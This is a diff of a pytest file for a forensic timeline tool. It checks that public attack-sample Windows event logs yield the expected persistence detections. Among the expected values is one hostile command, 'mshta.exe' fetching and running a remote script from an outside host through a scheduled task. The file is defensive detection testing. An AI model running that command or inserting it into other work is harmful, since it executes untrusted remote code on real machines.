@@ -1,49 +1,33 @@
-"""Public logs of attacks: each gives the persistence that its name says, or is listed among those that do not yet.
+"""Public logs of attacks: each gives what its name says, or is listed with the reason why nothing is told.
 
-The two tables are of all files whose name tells of persistence, a service or a task.
+One run over all of them (the logs name their computers, and a row its file) is held against the table; a few are run
+alone, as somebody would who has only that file.
 """
 
 from __future__ import annotations
 
-import re
+from collections import defaultdict
 from pathlib import Path
+from typing import Any
 
 import pytest
+import yaml
 
-from tests.running import timeline
+from tests.running import Run, timeline
 
-# File -> (mechanism, part of name or command, least score).
-EXPECTED = {
-    "Defense Evasion/apt10_jjs_sideloading_prochollowing_persist_as_service_sysmon_1_7_8_13.evtx": (
-        "service", "HxUpdateServiceInfo", 41,
-    ),
-    "Execution/temp_scheduled_task_4698_4699.evtx": ("scheduled_task", "CYAlyNSS", 40),
-    "Lateral Movement/LM_Remote_Service02_7045.evtx": ("service", "remotesvc", 41),
-    "Lateral Movement/LM_ScheduledTask_ATSVC_target_host.evtx": ("scheduled_task", "CYAlyNSS", 40),
-    "Malware/DE_timestomp_and_dll_sideloading_and_RunPersist.evtx": ("run_key", "Roaming\\svchost.exe", 41),
+_LEAST = 40
+_TABLE = yaml.safe_load(Path(__file__).with_name("attack_samples.yml").read_text(encoding="utf-8"))
+EXPECTED = {f"{folder}/{name}": set(told) for folder, files in _TABLE["found"].items() for name, told in files.items()}
+NOTHING = {f"{folder}/{name}": why for folder, files in _TABLE["nothing"].items() for name, why in files.items()}
+PARTLY = _TABLE["partly"]
+TASK = "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"
+# File -> (mechanism, part of name or command, least score): the persistence of files that are run alone.
+ALONE = {
     "Persistence/evasion_persis_hidden_run_keyvalue_sysmon_13.evtx": ("run_key", "taskhost.exe", 41),
-    "Persistence/persistence_pendingGPO_sysmon_13.evtx": ("pending_gpo", "gpo.inf", 41),
-    "Persistence/persistence_sysmon_11_13_1_shime_appfix.evtx": ("application_shim", "3ad6ed23", 41),
-    "Persistence/sysmon_13_1_persistence_via_winlogon_shell.evtx": ("winlogon", "BRE6BgE2JubB.exe", 41),
-    "Persistence/sysmon_20_21_1_CommandLineEventConsumer.evtx": ("wmi", "BotConsumer23", 41),
-}  # fmt: skip
-# What these tell of is no entry yet, or lies on another host; each with the reason.
-MISSED = {
-    "Command and Control/DE_RDP_Tunneling_TerminalServices-RemoteConnectionManagerOperational_1149.evtx":
-        "no autostart",
-    "Defense Evasion/DE_renamed_psexec_service_sysmon_17_18.evtx": "pipes alone, no record of the service",
-    "Execution/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx": "a task in command lines alone",
-    "Execution/sysmon_exec_from_vss_persistence.evtx": "no record of what is to start",
-    "Lateral Movement/LM_Remote_Service01_5145_svcctl.evtx": "a share's record, the service is not named",
-    "Lateral Movement/LM_sysmon_remote_task_src_powershell.evtx": "the source; the task is on another host",
-    "Persistence/Persistence_Winsock_Catalog Change EventId_1.evtx": "a channel that is not read",
-    "Persistence/persist_bitsadmin_Microsoft-Windows-Bits-Client-Operational.evtx": "its command is not logged",
-    "Persistence/persistence_accessibility_features_osk_sysmon1.evtx": "a process start alone",
-    "Persistence/persistence_hidden_local_account_sysmon.evtx": "an account, not an autostart",
-    "Privilege Escalation/PrivEsc_CVE-2020-1313_Sysmon_13_UScheduler_Cmdline.evtx": "a place that no rule has",
-    "Privilege Escalation/sysmon_uacbypass_CDSSync_schtask_hijack_byeintegrity5.evtx": "a hijacked variable",
-}  # fmt: skip
-_TOLD = re.compile(r"persis|service|sched|task", re.IGNORECASE)
+    "Persistence/persist_bitsadmin_Microsoft-Windows-Bits-Client-Operational.evtx": ("bits_job", "backdoor", 41),
+    "Persistence/Persistence_Winsock_Catalog Change EventId_1.evtx": ("winsock", "PROXYCAP LSP", 41),
+    TASK: ("scheduled_task", "mshta.exe https://hotelesms.com/Injection.txt", 40),
+}
 
 
 def _folder(samples: Path) -> Path:
@@ -51,32 +35,68 @@ def _folder(samples: Path) -> Path:
 
 
 @pytest.mark.samples
-def test_the_tables_are_complete(samples: Path) -> None:
-    top = _folder(samples)
-    named = {
-        path.relative_to(top).as_posix()
-        for path in top.rglob("*.evtx")
-        if path.parent.name == "Persistence" or _TOLD.search(path.name)
-    }
-    assert named == set(EXPECTED) | set(MISSED)
+def test_the_table_is_complete(samples: Path) -> None:
+    there = {path.relative_to(_folder(samples)).as_posix() for path in _folder(samples).rglob("*.evtx")}
+    assert there == set(EXPECTED) | set(NOTHING)
+    assert not set(EXPECTED) & set(NOTHING)
+    assert set(PARTLY) <= set(EXPECTED)
 
 
 @pytest.mark.samples
-@pytest.mark.parametrize("name", EXPECTED)
-def test_the_persistence_is_found(samples: Path, tmp_path: Path, name: str) -> None:
-    mechanism, part, least = EXPECTED[name]
+def test_every_log_gives_what_the_table_says(samples: Path, tmp_path: Path) -> None:
+    told = _told(timeline(_folder(samples), tmp_path / "case", "-q"))
+    assert {name: hits - told[name] for name, hits in EXPECTED.items() if hits - told[name]} == {}
+    assert {name: told[name] for name in NOTHING if told[name]} == {}, "one that is found some day leaves the list"
+    only = {name for name, hits in EXPECTED.items() if hits == {"~log_cleared"} and "log_cleared" not in name}
+    assert {name for name in only if told[name] == EXPECTED[name]} == set(PARTLY)
+
+
+def _told(run: Run) -> dict[str, set[str]]:
+    """What is told of each file: which file an event is of, its row says."""
+    files = {row["event_uid"]: row["source_path"] for row in run.lines("timeline.jsonl") if "source_path" in row}
+    found: dict[str, set[str]] = defaultdict(set)
+    for name, item in _named(run.document()):
+        for event in item["events"]:
+            found[files[event].removeprefix("loose:/")].add(name)
+    return found
+
+
+def _named(document: Any) -> list[tuple[str, Any]]:
+    entries = [item for item in document["persistence"] if item["score"] >= _LEAST]
+    own = {"machine.other", "tool.plink"}  # of no attack by themselves
+    findings = [item for item in document["findings"] if item["level"] != "informational" or item["rule"] not in own]
+    signs = [item for item in document["anti_forensics"] if item["kind"] != "events_lost"]
+    return [
+        *((f"{item['mechanism']}:{item['name']}", item) for item in entries),
+        *((item["rule"], item) for item in findings),
+        *((f"~{item['kind']}", item) for item in signs),
+    ]
+
+
+@pytest.mark.samples
+@pytest.mark.parametrize("name", ALONE)
+def test_the_persistence_is_found_in_a_file_alone(samples: Path, tmp_path: Path, name: str) -> None:
+    mechanism, part, least = ALONE[name]
     entries = timeline(_folder(samples) / name, tmp_path / "case", "-q").document()["persistence"]
     found = [
-        (entry["mechanism"], entry["name"], entry["command"], entry["score"])
+        entry
         for entry in entries
         if entry["mechanism"] == mechanism and part.casefold() in f"{entry['name']} {entry['command']}".casefold()
     ]
     assert found, entries
-    assert max(score for *_, score in found) >= least, found
+    assert max(entry["score"] for entry in found) >= least, found
+    if name == TASK:
+        assert any("whether it succeeded is not known" in reason for reason in found[0]["reasons"])
+        assert found[0]["first_seen"].startswith("2019-05-21T15:32:59")
 
 
 @pytest.mark.samples
-@pytest.mark.parametrize("name", MISSED)
-def test_what_is_missed_is_known(samples: Path, tmp_path: Path, name: str) -> None:
-    """One that is found some day leaves this table."""
-    assert timeline(_folder(samples) / name, tmp_path / "case", "-q").document()["persistence"] == []
+def test_what_is_told_of_a_few_reads_as_it_should(samples: Path, tmp_path: Path) -> None:
+    """A job by BITS says what its log does not know, a provider who put it there."""
+    found = {}
+    for name in list(ALONE)[1:3]:
+        document = timeline(_folder(samples) / name, tmp_path / name[:20], "-q").document()
+        found |= {entry["name"]: " ".join(entry["reasons"]) for entry in document["persistence"]}
+    assert "C:\\Windows\\system32\\cmd.exe" in found["backdoor"]
+    assert "which command it starts is not in this log" in found["backdoor"]
+    assert "MsiExec.exe put into the network stack" in found["PROXYCAP LSP"]
